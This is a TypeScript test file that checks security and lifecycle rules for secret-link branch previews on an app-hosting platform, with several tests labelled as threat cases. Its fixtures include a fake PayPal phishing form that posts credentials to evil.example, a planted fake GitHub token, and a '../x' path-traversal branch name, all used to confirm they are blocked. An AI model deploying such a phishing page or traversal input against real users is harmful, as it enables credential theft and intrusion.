/** Branches at addresses of their own: for the owner and who has a link, for seven days, and for nobody else. */
import { beforeAll, beforeEach, expect, test } from 'vitest'
import { draftApp, publishedApp } from '../../../../server/testing/apps.ts'
import { type Person, personalToken, signedUp, signIn } from '../../../../server/testing/people.ts'
import { onEachDatabase } from '../../../../server/testing/test-server.ts'
import { mergeBranch } from '../../../apps/branch-contract.ts'
import { commitFiles } from '../../../apps/commit-contract.ts'
import { deleteApp } from '../../../apps/contract.ts'
import { changeSettings } from '../../../host/settings-contract.ts'
import { restoreApp, takeDownApp } from '../../../moderation/contract.ts'
import { changeSubdomain } from '../../contract.ts'
import {
  deleteBranchPreview,
  linkBranchPreview,
  listBranchPreviews,
  openBranchPreview,
} from '../../branch-preview-contract.ts'

const dayMs = 24 * 3_600_000
const page = { 'index.html': '<!doctype html><title>Tide</title><h1>Live</h1>' }

onEachDatabase(
  'branch previews',
  (server) => {
    let ada: Person
    let bob: Person
    let rosa: Person
    beforeAll(async () => {
      ada = await signedUp(server(), 'ada')
      bob = await signedUp(server(), 'bob')
      rosa = await signedUp(server(), 'rosa')
    })
    beforeEach(async () => {
      for (const person of [ada, bob, rosa]) await signIn(person)
    })
    let made = 0
    const app = async (files = page) => {
      made += 1
      return publishedApp(ada, `wave-${made}`, files)
    }
    const write = async (id: string, branch: string, text: string, path = 'index.html') => {
      const changes = [{ op: 'write' as const, path, content: text }]
      const answer = await ada.calls(commitFiles, { id, branch, message: 'Change', changes })
      expect(answer.status).toBe(201)
      return answer.body.commitSha
    }
    const link = async (id: string, branch: string) => {
      const answer = await ada.calls(linkBranchPreview, { id, branch })
      expect(answer).toMatchObject({ status: 201 })
      return answer.body
    }
    const ask = (url: string, headers: Record<string, string> = {}, method = 'GET') =>
      server().request(url, { method, headers, redirect: 'manual' })
    /** Goes to an address with a key, as a browser does: by the cookie from then on. */
    const enter = async (url: string) => {
      const answer = await ask(url)
      const cookie = answer.headers.get('set-cookie')?.split(';')[0] ?? ''
      const open = (path = '', headers: Record<string, string> = {}) =>
        ask(new URL(`/${path}`, url).href, { Cookie: cookie, ...headers })
      return { answer, cookie, open }
    }
    /** All of an answer but when it was given. */
    const whole = async (answer: Response) => ({
      status: answer.status,
      headers: Object.fromEntries(answer.headers),
      text: await answer.text(),
    })
    /** As `git push --delete` does. */
    const deleteBranch = async (repository: string, branch: string, head: string) => {
      const command = `${head} ${'0'.repeat(40)} refs/heads/${branch}\0report-status delete-refs`
      const length = (command.length + 4).toString(16).padStart(4, '0')
      const answer = await server().request(`/codehost/ada/${repository}.git/git-receive-pack`, {
        method: 'POST',
        headers: {
          Authorization: `Basic ${btoa(`ada:${await personalToken(ada)}`)}`,
          'Content-Type': 'application/x-git-receive-pack-request',
        },
        body: `${length}${command}0000`,
      })
      expect(await answer.text()).toContain(`ok refs/heads/${branch}`)
    }
    const document = { 'Sec-Fetch-Dest': 'document' }

    test('a branch is shown to who has the link, marked, beside what is live, and follows its commits until it is taken over', async () => {
      const { id, url: live } = await app()
      const first = await write(id, 'big-change', '<!doctype html><h1>Later</h1>')
      const { url, preview } = await link(id, 'big-change')
      const name = new URL(live).host
      expect(preview).toMatchObject({
        branch: 'big-change',
        address: `http://big-change--${name}/`,
        commitSha: first,
        problem: null,
        links: 1,
      })
      expect(url).toMatch(/\/_preview\/[0-9a-f]{32}$/)
      const { answer, open } = await enter(url)
      expect([answer.status, answer.headers.get('location')]).toEqual([303, '/'])
      const html = await (await open()).text()
      expect(html).toContain('<h1>Later</h1>')
      expect(html).toContain('mark(sharedPage)')
      expect(html).toContain('"forkAddress":null')
      expect(await (await ask(live)).text()).toContain('Live')
      const second = await write(id, 'big-change', '<!doctype html><h1>Latest</h1>')
      server().pass(15_000)
      expect(await (await open('', document)).text()).toContain('Latest')
      expect((await ada.calls(listBranchPreviews, { id })).body.previews).toMatchObject([
        { commitSha: second, links: 1 },
      ])
      expect((await ada.calls(mergeBranch, { id, branch: 'big-change' })).body.changed).toBe(true)
      // The key is told once, and stored as a hash alone.
      const rows = await server().server.db.selectFrom('branchKeys').selectAll().execute()
      const key = url.slice(-32)
      expect(JSON.stringify(rows)).not.toContain(key)
      expect(server().logged()).not.toContain(key)
    })

    test('threat T169: who guesses the address of a branch is answered as where there is nothing, by whichever way they ask', async () => {
      const { id } = await app()
      await write(id, 'secret', '<h1>Secret</h1>')
      const { preview, url } = await link(id, 'secret')
      const other = await app()
      await write(other.id, 'secret', '<h1>Other</h1>')
      const { cookie } = await enter((await link(other.id, 'secret')).url)
      const absent = preview.address.replace('secret--', 'nobody--')
      const guess = `/_preview/${'0'.repeat(32)}`
      const ways = [
        ['/', {}, 'GET'],
        ['/', { Cookie: cookie }, 'GET'],
        ['/', { Cookie: 'preview=x; preview' }, 'GET'],
        ['/index.html', document, 'GET'],
        [guess, {}, 'GET'],
        ['/_preview/', {}, 'GET'],
        ['/_app/v1.js', {}, 'GET'],
        ['/sw.js', { 'Service-Worker': 'script' }, 'GET'],
        ['/', {}, 'HEAD'],
        ['/', {}, 'POST'],
        ['/', {}, 'OPTIONS'],
      ] as const
      for (const [path, headers, method] of ways) {
        const [there, nowhere] = await Promise.all(
          [preview.address, absent].map((at) => ask(new URL(path, at).href, headers, method)),
        )
        if (!there || !nowhere) throw new Error('no answer')
        expect(there.headers.has('set-cookie')).toBe(false)
        expect(await whole(there)).toEqual(await whole(nowhere))
      }
      // The key of one branch opens no other of the same app.
      await write(id, 'public', '<h1>Public</h1>')
      const beside = await link(id, 'public')
      const guest = await enter(beside.url)
      expect((await guest.open()).status).toBe(200)
      expect((await ask(preview.address, { Cookie: guest.cookie })).status).toBe(404)
      const key = new URL(new URL(beside.url).pathname, preview.address).href
      expect((await ask(key)).status).toBe(404)
      // As at a name that nobody has.
      const free = preview.address.replace(/\/\/[^.]*/, '//nobody-has-this')
      expect(await whole(await ask(preview.address))).toEqual(await whole(await ask(free)))
      // What only looks at an address uses nothing up and is let in nowhere.
      expect((await ask(url, {}, 'HEAD')).status).toBe(404)
      const statuses = new Set<number>()
      for (let n = 0; n < 1_300 && !statuses.has(429); n += 1)
        statuses.add((await server().request(preview.address, {}, '203.0.113.7')).status)
      expect([...statuses]).toEqual([404, 429])
    })

    test('threat T170: a key leaves by no referrer, cache or search engine, is out of reach of the app’s code, and an owner’s opens one browser once', async () => {
      const { id } = await app()
      await write(id, 'quiet', '/*\n  Cache-Control: public\n  X-Robots-Tag: all', '_headers')
      await write(id, 'quiet', 'self', 'sw.js')
      const { body } = await ada.calls(openBranchPreview, { id, branch: 'quiet' })
      const { url, preview } = body
      expect(preview.links).toBe(0)
      const { answer, cookie, open } = await enter(url)
      const told = answer.headers.get('set-cookie') ?? ''
      expect(told).toMatch(/^preview=[0-9a-f]{32}; Path=\/; Max-Age=86400; HttpOnly; SameSite=Lax$/)
      expect(told).not.toContain(url.slice(-32))
      // What an app that had the address before left in this browser goes.
      expect(answer.headers.get('clear-site-data')).toBe('"storage", "cache"')
      expect((await ask(url)).status).toBe(404)
      expect((await ask(preview.address, { Cookie: `preview=${url.slice(-32)}` })).status).toBe(404)
      // Whoever is in comes to the page, and keeps what the app stores.
      const again = await ask(url, { Cookie: cookie })
      expect([again.status, again.headers.get('clear-site-data')]).toEqual([303, null])
      for (const { status, headers } of [
        answer,
        await open(),
        await open('sw.js'),
        await open('none'),
        await open('_app/v1.js'),
        await open('_app/me'),
      ]) {
        expect(status).toBeLessThan(500)
        expect(Object.fromEntries(headers)).toMatchObject({
          'cache-control': 'private, no-store',
          'referrer-policy': 'no-referrer',
          'x-robots-tag': 'noindex',
          'cross-origin-resource-policy': 'same-origin',
          'content-security-policy': expect.stringMatching(/^sandbox .*frame-ancestors 'none'$/),
        })
        expect(headers.has('access-control-allow-origin')).toBe(false)
      }
      expect((await open('sw.js', { 'Service-Worker': 'script' })).status).toBe(403)
      expect((await open('_app/entries/notes')).status).toBe(204)
      // A sibling site's cookie of the same name shuts out nobody.
      const crowd = `preview=${'0'.repeat(32)}; preview=x; ${cookie}`
      expect((await open('', { Cookie: crowd })).status).toBe(200)
      const late = (await ada.calls(openBranchPreview, { id, branch: 'quiet' })).body.url
      server().pass(60_000)
      expect((await ask(late)).status).toBe(404)
      server().pass(dayMs)
      expect((await open()).status).toBe(404)
    })

    test('threat T171: a preview ends by its owner’s word alone, by its time, with its branch, with the app, and by an admin’s act', async () => {
      const { id } = await app()
      await write(id, 'short', '<h1>Short</h1>')
      const one = await link(id, 'short')
      const visit = await enter(one.url)
      expect((await bob.calls(deleteBranchPreview, { id, branch: 'short' })).status).toBe(403)
      expect((await visit.open()).status).toBe(200)
      expect((await ada.calls(deleteBranchPreview, { id, branch: 'short' })).status).toBe(200)
      expect((await ada.calls(deleteBranchPreview, { id, branch: 'short' })).status).toBe(404)
      expect((await visit.open()).status).toBe(404)
      // Shown again, it lets nobody in who was let in before.
      const two = await enter((await link(id, 'short')).url)
      expect([(await visit.open()).status, (await two.open()).status]).toEqual([404, 200])
      server().pass(7 * dayMs)
      expect((await two.open()).status).toBe(404)
      await signIn(ada)
      expect((await ada.calls(listBranchPreviews, { id })).body.previews).toEqual([])
      await server().server.jobs.sweep()
      const { db } = server().server
      const left = await db
        .selectFrom('branchPreviews')
        .selectAll()
        .where('appId', '=', id)
        .execute()
      expect(left).toEqual([])
      const last = await link(id, 'short')
      const three = await enter(last.url)
      await deleteBranch(`wave-${made}`, 'short', last.preview.commitSha)
      server().pass(15_000)
      expect((await three.open('', document)).status).toBe(404)
      expect((await ada.calls(listBranchPreviews, { id })).body.previews).toEqual([])
      expect(await ada.calls(linkBranchPreview, { id, branch: 'short' })).toMatchObject({
        status: 404,
        body: { code: 'notFound' },
      })
      await write(id, 'short', '<h1>Again</h1>')
      const four = await enter((await link(id, 'short')).url)
      const suspend = (suspendedAt: number | null) =>
        db.updateTable('users').set({ suspendedAt }).where('id', '=', ada.userId).execute()
      await suspend(server().now())
      expect((await four.open()).status).toBe(404)
      await suspend(null)
      expect((await four.open()).status).toBe(200)
      await signIn(rosa)
      expect((await rosa.calls(takeDownApp, { id, reason: 'A court order' })).status).toBe(200)
      expect((await four.open()).status).toBe(404)
      expect((await rosa.calls(restoreApp, { id })).status).toBe(200)
      expect((await four.open()).status).toBe(404)
      await signIn(ada)
      const five = await enter((await link(id, 'short')).url)
      expect((await ada.calls(deleteApp, { id })).status).toBe(200)
      expect((await five.open()).status).toBe(404)
    })

    test('threat T171: what a publish would stop is not shown: secret keys, a page that phishes', async () => {
      const { id } = await app()
      await write(id, 'keys', `const key = 'ghp_${'aB3d'.repeat(9)}'`, 'app.js')
      const refused = await ada.calls(openBranchPreview, { id, branch: 'keys' })
      expect(refused).toMatchObject({ status: 409, body: { code: 'secretsFound' } })
      const order = { id, branch: 'keys', acceptSecrets: true }
      const { open } = await enter((await ada.calls(openBranchPreview, order)).body.url)
      expect((await open('app.js')).status).toBe(200)
      await write(id, 'keys', `const key = 'ghp_${'Zx9k'.repeat(9)}'`, 'app.js')
      server().pass(15_000)
      await open('', document)
      expect(await (await open('app.js')).text()).toContain('aB3d')
      expect((await ada.calls(listBranchPreviews, { id })).body.previews).toMatchObject([
        { problem: 'secrets' },
      ])
      await write(
        id,
        'phish',
        '<title>PayPal</title><h1>PayPal</h1><form action="https://evil.example/take"><input type="email"><input type="password"></form>',
      )
      expect(await ada.calls(linkBranchPreview, { id, branch: 'phish' })).toMatchObject({
        status: 409,
        body: { code: 'shareHeld' },
      })
      // From now on an admin looks first: what was shown by a link until then is shown no longer.
      let revision = 0
      const review = async (value: boolean | null) => {
        const changes = [{ name: 'reviewBeforePublish' as const, value }]
        const { status, body } = await rosa.calls(changeSettings, { revision, changes })
        expect(status).toBe(200)
        revision = body.revision
      }
      await review(true)
      expect((await open('app.js')).status).toBe(404)
      expect(await ada.calls(linkBranchPreview, order)).toMatchObject({
        status: 403,
        body: { code: 'shareNeedsReview' },
      })
      await review(null)
      expect((await open('app.js')).status).toBe(200)
    })

    test('any branch has an address: long, with other letters, alike another, of a draft without a name; and it moves with the app', async () => {
      const { id } = await app()
      const names = ['Feature/Login', 'feature-login', 'ab', 'x'.repeat(100), 'docs_v1.2', '_']
      const labels = []
      for (const branch of names) {
        await write(id, branch, `<h1>${branch}</h1>`)
        const { url, preview } = await link(id, branch)
        const { open } = await enter(url)
        expect(await (await open()).text()).toContain(`<h1>${branch}</h1>`)
        labels.push(new URL(preview.address).hostname.split('.')[0] ?? '')
      }
      expect(new Set(labels).size).toBe(names.length)
      for (const label of labels) expect(label).toMatch(/^(?=.{1,63}$)(?!..--)[a-z0-9-]*[a-z0-9]$/)
      expect(labels[1]).toBe(`feature-login--wave-${made}`)
      const visit = await enter((await link(id, 'feature-login')).url)
      const moved = await ada.calls(changeSubdomain, { id, subdomain: 'other-wave' })
      expect(moved.status).toBe(200)
      expect((await visit.open()).status).toBe(404)
      const { url } = await link(id, 'feature-login')
      expect(new URL(url).hostname).toMatch(/^feature-login--other-wave\./)
      expect((await (await enter(url)).open()).status).toBe(200)
      const draft = await draftApp(ada, 'unnamed', page)
      await write(draft, 'first', '<h1>First</h1>')
      const first = await link(draft, 'first')
      expect(first.preview.address).toMatch(/\/\/first--draft-[0-9a-f]{24}\./)
      expect((await (await enter(first.url)).open()).status).toBe(200)
    })

    test('an app shows twenty branches, and nobody else’s are made, listed or opened', async () => {
      const { id } = await app()
      for (let n = 0; n < 20; n += 1) {
        await write(id, `branch-${n}`, `<h1>${n}</h1>`)
        await link(id, `branch-${n}`)
      }
      await write(id, 'more', '<h1>More</h1>')
      expect(await ada.calls(linkBranchPreview, { id, branch: 'more' })).toMatchObject({
        status: 409,
        body: { code: 'branchPreviewsFull', error: expect.stringContaining('20') },
      })
      expect((await link(id, 'branch-3')).preview.links).toBe(2)
      for (const route of [linkBranchPreview, openBranchPreview])
        expect((await bob.calls(route, { id, branch: 'branch-1' })).status).toBe(403)
      expect((await bob.calls(listBranchPreviews, { id })).status).toBe(403)
      expect((await ada.calls(linkBranchPreview, { id, branch: '../x' })).status).toBe(400)
    })
  },
  { env: { ADMINS: 'builtin:rosa' } },
)
